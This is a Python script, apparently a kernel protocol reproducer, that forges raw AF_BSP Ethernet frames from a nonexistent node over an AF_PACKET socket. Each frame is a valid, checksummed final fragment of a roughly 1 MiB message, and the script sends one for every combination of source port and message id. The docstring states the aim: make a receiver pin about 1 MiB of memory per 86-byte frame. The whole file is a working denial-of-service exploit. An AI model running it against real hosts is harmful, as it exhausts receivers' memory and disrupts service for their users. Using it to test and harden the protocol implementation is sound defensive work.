#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""Forge valid AF_BSP DATA frames from a node that does not exist (AF_PACKET).

  bsp_partial.py partial DEV DST_MAC VERSION SRC_NODE DST_NODE DST_PORT PORTS MSGS
      for each of PORTS source ports (1..PORTS) and each msg_id 0..MSGS-1,
      one frame: the 16-byte LAST fragment of a message of 1048360 bytes
      (726 fragments of 1444 bytes + 16), checksummed, rail 0, sequence
      number = msg_id. Every frame is valid, so a receiver that allocates
      the whole message at its first fragment pins about 1 MiB per 86-byte
      frame (header version 1: 14 + 56 + 16 bytes) until it expires it.

VERSION is the header version of kernel/engine/bspe_wire.h (BSPE_VERSION):
1 is the 56-byte header, 2 the 72-byte one with endpoint incarnations.
"""
import socket
import struct
import sys

ETH_P_BSP = 0x88B5
T_DATA = 1
F_CSUM = 0x0020
UNIT = 1444
LAST = 16
MSG_LEN = 726 * UNIT + LAST


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def header(version, src_node, dst_node, src_port, dst_port, seq, msg_id, cs):
    # version, type, flags, src/dst node, src/dst port, rail, ack_rail, csum
    head = struct.pack("!BBHIIHHBBH", version, T_DATA, F_CSUM, src_node, dst_node,
                       src_port, dst_port, 0, 0, cs)
    if version >= 2:
        head += struct.pack("!II", 1, 0)  # src_inc (never 0), dst_inc unknown
    # seq, base, ack, eoh, epoch, msg_id, msg_len, frag_off, frag_unit, payload_len
    head += struct.pack("!IIIIIIIIHH", seq, 0, 0, 0, 0, msg_id, MSG_LEN,
                        MSG_LEN - LAST, UNIT, LAST)
    if version >= 2:
        head += struct.pack("!Q", 0)  # mac: unauthenticated
    return head


def partial(dev, dst, version, src_node, dst_node, dst_port, ports, msgs):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((dev, 0))
    src = s.getsockname()[4]
    dmac = bytes(int(x, 16) for x in dst.split(":"))
    payload = bytes(range(LAST))
    n = 0
    for port in range(1, ports + 1):
        for msg_id in range(msgs):
            h = header(version, src_node, dst_node, port, dst_port, msg_id, msg_id, 0)
            cs = csum(h + payload)
            h = header(version, src_node, dst_node, port, dst_port, msg_id, msg_id, cs)
            s.send(dmac + src + struct.pack("!H", ETH_P_BSP) + h + payload)
            n += 1
    s.close()
    print("forged", n, "frames of", 14 + len(h) + LAST, "bytes")


if __name__ == "__main__":
    if len(sys.argv) == 10 and sys.argv[1] == "partial":
        a = sys.argv
        partial(a[2], a[3], int(a[4]), int(a[5]), int(a[6]), int(a[7]), int(a[8]), int(a[9]))
    else:
        sys.exit(__doc__)
